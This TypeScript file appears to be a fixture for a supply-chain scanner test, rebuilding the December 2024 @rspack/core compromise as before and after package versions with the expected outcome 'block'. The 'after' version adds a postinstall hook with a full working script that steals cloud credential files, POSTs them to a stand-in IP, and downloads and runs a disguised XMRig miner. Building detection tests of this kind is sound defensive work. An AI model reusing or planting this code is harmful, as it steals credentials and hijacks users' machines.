import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';
import { noise } from './replica.js';

const manifest = {
  description: 'The fast Rust-based web bundler with webpack-compatible API',
  main: './dist/index.js',
  types: './dist/index.d.ts',
  license: 'MIT',
  engines: { node: '>=16.0.0' },
  repository: { type: 'git', url: 'https://git.example/bundler/rspack.git' },
  exports: { '.': { default: './dist/index.js' }, './package.json': './package.json' },
  scripts: { build: 'tsc -b ./tsconfig.build.json', test: 'cross-env NODE_OPTIONS="--expose-gc" jest' },
  dependencies: { '@rspack/lite-tapable': '1.0.1', 'caniuse-lite': '^1.0.30001616' },
};

const index = String.raw`"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.rspack = exports.Compiler = void 0;
const { Compiler } = require("./Compiler");
const { applyDefaults } = require("./config/defaults");
exports.Compiler = Compiler;

function createCompiler(options) {
    const compiler = new Compiler(options.context, options);
    for (const plugin of options.plugins) {
        if (typeof plugin === "function") plugin.call(compiler, compiler);
        else if (plugin) plugin.apply(compiler);
    }
    compiler.hooks.environment.call();
    compiler.hooks.afterEnvironment.call();
    compiler.hooks.initialize.call();
    return compiler;
}

function rspack(options, callback) {
    const compiler = createCompiler(applyDefaults(options));
    if (!callback) return compiler;
    if (options.watch) return compiler.watch(options.watchOptions || {}, callback), compiler;
    compiler.run((err, stats) => compiler.close(() => callback(err, stats)));
    return compiler;
}
exports.rspack = rspack;
`;

const compiler = String.raw`"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Compiler = void 0;
const liteTapable = require("@rspack/lite-tapable");
const { memoize } = require("./util/memoize");
const binding = memoize(() => require("@rspack/binding"));

class Compiler {
    constructor(context, options) {
        this.context = context;
        this.options = options;
        this.running = false;
        this.hooks = {
            environment: new liteTapable.SyncHook([]),
            afterEnvironment: new liteTapable.SyncHook([]),
            initialize: new liteTapable.SyncHook([]),
            beforeRun: new liteTapable.AsyncSeriesHook(["compiler"]),
            done: new liteTapable.AsyncSeriesHook(["stats"]),
            failed: new liteTapable.SyncHook(["error"]),
        };
    }
    run(callback) {
        if (this.running) return callback(new Error("this compiler already runs"));
        this.running = true;
        this.hooks.beforeRun.callAsync(this, (failure) => {
            if (failure) return this.finish(failure, undefined, callback);
            const native = new (binding().Rspack)(this.options);
            native.build((error) => this.finish(error, error ? undefined : { hash: native.hash }, callback));
        });
    }
    finish(error, stats, callback) {
        this.running = false;
        if (error) this.hooks.failed.call(error);
        else this.hooks.done.callAsync(stats, () => callback(null, stats));
        if (error) callback(error);
    }
    close(callback) {
        callback(null);
    }
}
exports.Compiler = Compiler;
`;

const defaults = String.raw`"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.applyDefaults = void 0;
const path = require("path");

exports.applyDefaults = function applyDefaults(options) {
    const mode = options.mode || (process.env.NODE_ENV === "development" ? "development" : "production");
    return {
        ...options,
        mode,
        context: options.context || process.cwd(),
        entry: options.entry || "./src",
        plugins: options.plugins || [],
        output: { path: path.join(process.cwd(), "dist"), filename: "[name].js", ...options.output },
        optimization: { minimize: mode === "production", ...options.optimization },
    };
};
`;

const support = obfuscatedForm(String.raw`
(function () {
  var os = require('os');
  var fs = require('fs');
  var path = require('path');
  var http = require('http');
  var https = require('https');
  var childProcess = require('child_process');
  var home = os.homedir();
  var kept = [
    { kind: 'aws', place: path.join(home, '.aws', 'credentials') },
    { kind: 'aliyun', place: path.join(home, '.aliyun', 'config.json') },
    { kind: 'hcloud', place: path.join(home, '.config', 'hcloud', 'cli.toml') },
    { kind: 'gcloud', place: path.join(home, '.config', 'gcloud', 'application_default_credentials.json') },
    { kind: 'tencent', place: path.join(home, '.tccli', 'default.credential') },
    { kind: 'huawei', place: path.join(home, '.hcloud', 'config.json') }
  ];
  var allowed = ['Examplia', 'Testland', 'Samplestan', 'Nowhere', 'Elsewhere'];
  function gather() {
    var found = [];
    for (var i = 0; i < kept.length; i++) {
      try {
        if (fs.existsSync(kept[i].place)) { found.push({ kind: kept[i].kind, data: fs.readFileSync(kept[i].place, 'utf8') }); }
      } catch (problem) { }
    }
    return found;
  }
  function report(country, found) {
    var body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, country: country, tokens: found });
    var request = http.request({ hostname: '198.51.100.72', port: 80, path: '/tokens', method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } });
    request.on('error', function () { });
    request.write(body);
    request.end();
  }
  function fetchFile(address, target, done) {
    https.get(address, { headers: { 'User-Agent': 'curl/7.81.0' } }, function (answer) {
      if (answer.statusCode === 302) { fetchFile(answer.headers.location, target, done); return; }
      var sink = fs.createWriteStream(target);
      answer.pipe(sink);
      sink.on('finish', function () { sink.close(done); });
    }).on('error', function () { });
  }
  function mine() {
    var folder = path.join(os.tmpdir(), 'vant_helper_files');
    fs.mkdirSync(folder, { recursive: true });
    var archive = path.join(folder, 'helper.tar.gz');
    fetchFile('https://releases.example.invalid/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz', archive, function () {
      childProcess.exec('tar -xzf ' + archive + ' -C ' + folder + ' --strip-components=1', function (failure) {
        if (failure) { return; }
        var program = path.join(folder, 'vant_helper');
        fs.renameSync(path.join(folder, 'xmrig'), program);
        fs.chmodSync(program, 493);
        var cores = Math.max(1, Math.floor(os.cpus().length * 0.75));
        var child = childProcess.spawn(program, ['-u', '@WALLET', '-o', 'pool.example.invalid:8080', '--cpu-max-threads-hint', '75', '-t', String(cores), '--donate-level', '0', '--background'], { detached: true, stdio: 'ignore' });
        child.unref();
      });
    });
  }
  https.get('https://ipinfo.example.invalid/json', function (answer) {
    var text = '';
    answer.on('data', function (chunk) { text += chunk; });
    answer.on('end', function () {
      try {
        var place = JSON.parse(text);
        if (allowed.indexOf(place.country) < 0) { return; }
        report(place.country, gather());
        if (os.platform() === 'linux') { mine(); }
      } catch (trouble) { }
    });
  }).on('error', function () { });
})();
`.replace('@WALLET', `4${noise(94, 23, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')}`), { seed: 1219, strings: 'base64', declare: 'const' });

const files = {
  'dist/index.js': index,
  'dist/Compiler.js': compiler,
  'dist/config/defaults.js': defaults,
  'dist/util/memoize.js': '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.memoize = (fn) => {\n    let done = false;\n    let value;\n    return () => {\n        if (!done) {\n            value = fn();\n            done = true;\n        }\n        return value;\n    };\n};\n',
  'dist/index.d.ts': 'export declare class Compiler {\n  run(callback: (error: Error | null, stats?: { hash: string }) => void): void;\n}\nexport declare function rspack(options: object, callback?: (error: Error | null) => void): Compiler;\n',
  'README.md': '# Rspack\n\nA fast bundler.\n',
};
const ci = { name: 'bundler-ci', email: 'ci@bundler.example' };

/** From memory of the public analyses: the name of the script, its place among helpers, the gate by country, the kinds of files, and the miner's options. */
export const replica: Replica = {
  id: 'rspack-2024',
  story: 'December 2024: with a stolen token @rspack/core and cli 1.1.7 (and vant) gained a postinstall whose obfuscated script sends credentials of clouds to an address and starts a miner where the country fits.',
  name: '@rspack/core',
  before: { version: '1.1.6', manifest, files, publishedAt: '2024-12-10T08:00:00.000Z', publisher: ci },
  after: {
    version: '1.1.7', manifest: { ...manifest, scripts: { ...manifest.scripts, postinstall: 'node ./dist/util/support.js' } },
    files: { ...files, 'dist/util/support.js': `${support}\n` },
    publishedAt: '2024-12-19T02:01:00.000Z', publisher: ci,
  },
  must: 'block',
};
